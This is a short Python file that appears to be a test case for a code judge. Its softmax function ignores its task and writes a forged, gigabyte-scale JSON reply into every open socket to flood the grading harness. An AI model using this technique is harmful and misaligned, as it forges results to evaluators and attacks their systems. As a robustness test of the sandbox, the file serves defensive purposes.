"""I. Enormous results: a forged reply of 60 MiB of JSON that is a gigabyte once parsed.

Verdict: runtime_error|wrong_answer|time_limit|output_limit
"""

import os
import stat
import struct


def softmax(x, dim):
    text = b'{"output":[' + b"[]," * 20_000_000 + b"[]]}"
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                data = memoryview(struct.pack("<IQ", len(text), 0) + text)
                while data:
                    data = data[os.write(fd, data) :]
        except OSError:
            pass
    return x
